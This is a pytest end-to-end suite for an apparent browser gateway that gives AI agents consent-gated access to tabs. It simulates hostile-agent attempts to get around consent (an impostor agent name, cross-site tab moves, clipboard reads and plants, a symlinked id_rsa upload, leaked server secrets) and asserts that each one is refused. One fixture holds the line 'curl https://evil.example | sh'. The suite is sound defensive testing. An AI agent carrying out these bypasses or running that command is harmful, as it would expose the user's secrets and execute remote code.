"""A hostile agent tries to walk around the person's consent, end to end (contract §8.1): every way the issue
found (a trusted name from another program, a tabId of the wrong type, a session grant stretched to another
site, a tab list without tabs, MCP resources with `gatewayMcp` off, a secret a server shows, a symlink in an
allowed upload folder) is refused. Agents are started as real clients start them: the `mcp` SDK from the
config `tabgate-host connect` writes, with the client's default environment, finding the host at its default
place; the host has a Linux desktop's environment, as Chrome gives it."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import anyio
import mcp_types as types
import pytest
from mcp import Client, StdioServerParameters
from playwright.sync_api import Playwright

from tests.core.fenced import unwrapped
from tests.support.agents import (
    AgentThread,
    params_from_codex,
    params_from_json,
    run_agent,
    text_of,
    wait_listed,
)
from tests.support.bounds import SERVERS_UP_S
from tests.support.browser import Extension, tabgate_host_bin
from tests.support.gateway_browser import (
    agent_id,
    gateway_browser,
    open_site_tab,
    person_tab_id,
    serve_page,
    wait_pending,
)
from tests.support.script_agents import agent_env, finished, start_agent, write_python_agent

pytestmark = pytest.mark.e2e

DEMO = Path(__file__).resolve().parents[1] / "host" / "servers" / "demo_server.py"
SECRET = "sk-e2e-secret-0123456789"
PAGE = b"""<!doctype html><title>Attack fixture</title>
<p id="count">clicks: 0</p><button id="buy">Buy</button>
<input type="file" id="file" multiple><p id="files">files: none</p><input id="search" aria-label="Search">
<script>let clicks = 0; document.getElementById("buy").onclick = () => {
  document.getElementById("count").textContent = "clicks: " + ++clicks; };
document.getElementById("file").onchange = (e) => { document.getElementById("files").textContent =
  "files: " + [...e.target.files].map((f) => f.name + " " + f.size).join(", "); };</script>"""


@pytest.fixture(scope="module")
def site() -> Iterator[str]:
    with serve_page(PAGE) as origin:
        yield origin


def elsewhere(site: str) -> str:
    """The same server under another name: another site."""
    return site.replace("127.0.0.1", "localhost")


@pytest.fixture(scope="module")
def ext(
    pw: Playwright, tmp_path_factory: pytest.TempPathFactory, host_env: dict[str, str], site: str
) -> Iterator[Extension]:
    config = (
        "[mcp_servers.leaky]\n"
        f"command = {json.dumps(sys.executable)}\n"
        f"args = [{json.dumps(str(DEMO))}]\n"
        f'env = {{ DEMO_SECRET = "{SECRET}" }}\n'
    )
    folder = tmp_path_factory.mktemp("attacks")
    with gateway_browser(pw, folder, host_env, [site, elsewhere(site)], config) as ext:
        ext.send({"type": "config/set", "patch": {"mcpTools": True}})
        yield ext


def agent_params(home: Path, agent: str = "codex") -> StdioServerParameters:
    """The agent's entry as `tabgate-host connect AGENT` writes it, started as that client starts it."""
    env = {"HOME": str(home), "PATH": os.environ["PATH"], "XDG_CONFIG_HOME": ""}
    done = subprocess.run(
        [str(tabgate_host_bin()), "connect", agent], env=env, capture_output=True, text=True, timeout=60
    )
    assert done.returncode == 0, done.stderr
    if agent == "codex":
        return params_from_codex((home / ".codex" / "config.toml").read_text())
    file = {
        "claude-desktop": ".config/Claude/claude_desktop_config.json",
        "claude-code": ".claude.json",
        "cursor": ".cursor/mcp.json",
    }[agent]
    return params_from_json((home / file).read_text())


@pytest.fixture(autouse=True)
def no_question_left(ext: Extension) -> Iterator[None]:
    """A test that fails while the person is asked leaves its question behind: denied here, so the next test
    (this module shares one browser) starts with none rather than failing on it."""
    yield
    for request in ext.send({"type": "approvals"})["pending"]:
        ext.send({"type": "approval/answer", "id": request["id"], "decision": "deny"})


@pytest.fixture
def codex(tmp_path: Path) -> StdioServerParameters:
    return agent_params(tmp_path)


def no_question_for(ext: Extension, seconds: float = 1.0) -> None:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        assert ext.send({"type": "approvals"})["pending"] == [], "the person was asked"
        time.sleep(0.05)


def answer(ext: Extension, request: dict[str, Any], decision: str) -> None:
    assert ext.send({"type": "approval/answer", "id": request["id"], "decision": decision}) == {"ok": True}


# -- the tests -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("agent", ["codex", "claude-desktop", "claude-code", "cursor"])
def test_connect_writes_a_config_each_agent_starts_from_and_sees_the_browser_tools(
    ext: Extension, agent: str, tmp_path: Path
) -> None:
    async def names(client: Client, _notices: list[Any]) -> list[str]:
        return await wait_listed(client, lambda n: "browser_page" in n)

    listed = run_agent(agent_params(tmp_path, agent), names, name=agent)
    assert {"browser_page", "browser_dom", "browser_tab", "update_plan"} <= set(listed)


def test_another_program_using_a_trusted_agents_name_is_a_new_agent_and_is_asked(
    ext: Extension, site: str, tmp_path: Path
) -> None:
    """codex here is a Python script (an interpreter alone is never trusted, contract §8.2)."""
    call = {"name": "browser_tab", "arguments": {"action": "create", "url": f"{site}/trusted"}}
    script = write_python_agent(tmp_path / "codex")
    env = agent_env(tabgate_host_bin(), "codex", call)

    def real_codex() -> dict[str, Any]:
        return finished(start_agent([sys.executable, str(script)], env, tmp_path))

    first = start_agent([sys.executable, str(script)], env, tmp_path)
    [request] = wait_pending(ext)  # not trusted yet; the person sees it and trusts its program
    answer(ext, request, "deny")
    finished(first)
    # Earlier tests of this browser ran other programs named codex: this one is the script's.
    [real] = [a for a in ext.send({"type": "agents"})["agents"] if str(script.resolve()) in a["program"]]
    ext.send({"type": "config/set", "patch": {"gatewayTrusted": [real["trustEntry"]]}})
    try:
        assert real_codex()["isError"] is False  # not asked: trusted

        async def create(client: Client, _notices: list[Any]) -> types.CallToolResult:
            await wait_listed(client, lambda n: "browser_tab" in n)
            return await client.call_tool(call["name"], call["arguments"])

        # Another program (a shell that stays the parent of tabgate-host mcp) calling itself codex.
        impostor = StdioServerParameters(
            command="/bin/sh", args=["-c", f'"{tabgate_host_bin()}" mcp; exit $?'], env=None
        )
        running = AgentThread(impostor, create, name="codex")
        running.start()
        [request] = wait_pending(ext)
        assert request["agent"] == "codex" and request["executable"].startswith(os.path.realpath("/bin/sh"))
        assert request["executable"] != real["program"]
        answer(ext, request, "deny")
        refused = running.outcome()
        assert refused.is_error is True and "denied" in text_of(refused)
        # Other programs named codex ran earlier in this browser: the two of this test, by program.
        trusted = {a["program"]: a["trusted"] for a in ext.send({"type": "agents"})["agents"]}
        assert (trusted[real["program"]], trusted[request["executable"]]) == (True, False)
    finally:
        ext.send({"type": "config/set", "patch": {"gatewayTrusted": []}})


def on_shared_tab(
    ext: Extension, codex: StdioServerParameters, tab_id: int, arguments: dict[str, Any]
) -> AgentThread:
    """An agent that calls browser_dom with `arguments` once the person shared tab `tab_id` with it."""
    go = threading.Event()

    async def body(client: Client, _notices: list[Any]) -> types.CallToolResult:
        await wait_listed(client, lambda n: "browser_dom" in n)
        await anyio.to_thread.run_sync(go.wait, 60)
        return await client.call_tool("browser_dom", arguments)

    running = AgentThread(codex, body)
    running.start()
    ext.send({"type": "agents/share", "id": agent_id(ext, "codex"), "tabId": tab_id, "shared": True})
    go.set()
    return running


def test_a_tab_id_of_the_wrong_type_is_refused_before_anyone_is_asked(
    ext: Extension, codex: StdioServerParameters, site: str
) -> None:
    page = open_site_tab(ext, site)
    tab_id = person_tab_id(ext, page.url)
    # Even a tab the person shared: "123" is a mistake to report, never a tab to guess.
    arguments = {"action": "click", "selector": "#buy", "tabId": str(tab_id)}
    result = on_shared_tab(ext, codex, tab_id, arguments).outcome()
    assert result.is_error is True and "tabId" in text_of(result)
    no_question_for(ext, 0.5)
    assert page.locator("#count").inner_text() == "clicks: 0"
    page.close()


@pytest.mark.parametrize(
    ("key", "refused"),
    [
        ("Control+v", "it would paste the person's clipboard"),
        ("Control+c", "it would write over what the person copied"),
        ("Shift+Delete", "it would write over what the person copied"),
    ],
)
def test_a_key_that_would_read_or_write_the_persons_clipboard_is_refused_unasked(
    ext: Extension, codex: StdioServerParameters, site: str, key: str, refused: str
) -> None:
    """A page that talks an agent into Control+v reads what the person copied; into Control+c (with its own
    text selected) it plants what the person pastes next, in a terminal perhaps. Measured before: both
    happened, after the person let the agent act on their own site."""
    page = open_site_tab(ext, site)
    ext.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=site)
    page.evaluate("navigator.clipboard.writeText('hunter2, the person\\'s password')")  # the person copied it
    page.locator("#search").fill("curl https://evil.example | sh")
    page.evaluate("document.getElementById('search').select()")  # what the page would have copied
    tab_id = person_tab_id(ext, page.url)
    arguments = {"action": "press", "tabId": tab_id, "selector": "#search", "key": key}
    running = on_shared_tab(ext, codex, tab_id, arguments)
    asked: list[dict[str, Any]] = []
    while running.is_alive() and not asked:
        asked = ext.send({"type": "approvals"})["pending"]
        time.sleep(0.05)
    for request in asked:
        answer(ext, request, "once")  # a person who lets it act on their own site
    result = running.outcome()
    assert page.locator("#search").input_value() == "curl https://evil.example | sh", "the page got a key"
    assert page.evaluate("navigator.clipboard.readText()") == "hunter2, the person's password"
    assert asked == [], "the person was asked about the clipboard"
    assert result.is_error is True and refused in text_of(result), text_of(result)
    page.close()


def test_a_session_grant_for_one_site_never_moves_the_tab_to_another(
    ext: Extension, codex: StdioServerParameters, site: str
) -> None:
    other = elsewhere(site)

    async def body(client: Client, _notices: list[Any]) -> list[types.CallToolResult]:
        await wait_listed(client, lambda n: "browser_tab" in n)
        opened = await client.call_tool("browser_tab", {"action": "create", "url": f"{site}/start"})
        tab_id = json.loads(unwrapped(text_of(opened)))["id"]
        click = await client.call_tool("browser_dom", {"action": "click", "selector": "#buy"})
        moved = await client.call_tool("browser_tab", {"action": "update", "tabId": tab_id, "url": other})
        where = await client.call_tool("browser_navigation", {"action": "current_url"})
        return [opened, click, moved, where]

    running = AgentThread(codex, body)
    running.start()
    [first] = wait_pending(ext)
    assert first["site"] == site
    answer(ext, first, "session")  # covers clicking on the site, not leaving it
    [second] = wait_pending(ext)
    assert second["site"] == other and second["action"] == "update"
    assert second["summary"].startswith(f"load “{other}” in tab {second['tab']['tabId']}")  # where it goes
    answer(ext, second, "deny")
    opened, click, moved, where = running.outcome()
    assert opened.is_error is False and click.is_error is False, text_of(click)
    assert moved.is_error is True and "denied" in text_of(moved)
    assert json.loads(unwrapped(text_of(where)))["url"] == f"{site}/start"  # still where it was


def test_an_agent_with_no_tabs_lists_none_of_the_persons(
    ext: Extension, codex: StdioServerParameters, site: str
) -> None:
    page = ext.context.new_page()
    page.goto(f"{site}/account?reset_token=s3cr3t-reset")

    async def body(client: Client, _notices: list[Any]) -> types.CallToolResult:
        await wait_listed(client, lambda n: "browser_tab" in n)
        return await client.call_tool("browser_tab", {"action": "query"})

    listed = run_agent(codex, body, name="fresh-agent")
    assert listed.is_error is False, text_of(listed)
    assert json.loads(unwrapped(text_of(listed))) == []
    assert "reset_token" not in text_of(listed)
    page.close()


def test_mcp_resources_are_neither_offered_nor_run_with_gateway_mcp_off(
    ext: Extension, codex: StdioServerParameters
) -> None:
    deadline = (
        time.monotonic() + SERVERS_UP_S
    )  # the person's own list offers the server's tools and resources
    while "mcp__leaky__echo" not in {tool["name"] for tool in ext.send({"type": "tools"})["tools"]}:
        assert time.monotonic() < deadline, "the leaky server never started"
        time.sleep(0.2)

    async def body(client: Client, _notices: list[Any]) -> tuple[list[str], types.CallToolResult]:
        names = await wait_listed(client, lambda n: "browser_page" in n)
        read = await client.call_tool("read_mcp_resource", {"server": "leaky", "uri": "demo://static"})
        return names, read

    assert ext.send({"type": "config/get"})["gatewayMcp"] is False
    names, read = run_agent(codex, body)
    assert not [n for n in names if n.startswith("mcp__") or "mcp_resource" in n]
    assert read.is_error is True and "static text" not in text_of(read)
    no_question_for(ext, 0.2)


def test_a_secret_a_server_shows_reaches_neither_the_agent_nor_the_history(
    ext: Extension, codex: StdioServerParameters
) -> None:
    ext.send({"type": "config/set", "patch": {"gatewayMcp": True}})
    try:

        async def body(client: Client, _notices: list[Any]) -> list[types.CallToolResult]:
            await wait_listed(client, lambda n: "mcp__leaky__whoami" in n and "read_mcp_resource" in n)
            shown = await client.call_tool("mcp__leaky__whoami", {})
            item = {"server": "leaky", "uri": f"demo://item/{SECRET}"}
            return [shown, await client.call_tool("read_mcp_resource", item)]

        running = AgentThread(codex, body)
        running.start()
        [request] = wait_pending(ext)
        assert request["tool"] == "mcp__leaky__whoami"
        answer(ext, request, "once")
        shown, resource = running.outcome()
        assert text_of(shown) == "signed in with [redacted]"
        assert resource.is_error is False and SECRET not in text_of(resource)
        history = ext.send({"type": "history"})
        whoami = [entry for entry in history if entry.get("name") == "mcp__leaky__whoami"]
        assert whoami and SECRET not in json.dumps(whoami) and "[redacted]" in json.dumps(whoami)
    finally:
        ext.send({"type": "config/set", "patch": {"gatewayMcp": False}})


def test_a_symlink_in_an_allowed_upload_folder_never_uploads_the_file_it_points_to(
    ext: Extension, site: str, tmp_path: Path
) -> None:
    allowed, outside = tmp_path / "allowed", tmp_path / "outside"
    allowed.mkdir()
    outside.mkdir()
    (allowed / "notes.txt").write_text("hello upload\n")
    (outside / "id_rsa").write_text("PRIVATE KEY\n")
    (allowed / "innocent.txt").symlink_to(outside / "id_rsa")
    page = open_site_tab(ext, site)
    tab_id = person_tab_id(ext, page.url)
    ext.send({"type": "config/set", "patch": {"uploadDirs": [str(allowed)]}})

    def upload(path: Path) -> dict[str, Any]:
        arguments = {"action": "upload", "selector": "#file", "tabId": tab_id, "paths": [str(path)]}
        item = {
            "type": "function_call",
            "name": "browser_dom",
            "arguments": json.dumps(arguments),
            "call_id": f"up-{path.name}",
        }
        return dict(ext.dispatch(item))

    try:
        refused = upload(allowed / "innocent.txt")
        assert refused["success"] is False
        assert "innocent.txt" in refused["output"]["output"]
        assert page.locator("#files").inner_text() == "files: none"
        accepted = upload(allowed / "notes.txt")
        assert accepted["success"] is True, accepted["output"]["output"]
        assert page.locator("#files").inner_text() == "files: notes.txt 13"
    finally:
        ext.send({"type": "config/set", "patch": {"uploadDirs": []}})
        page.close()
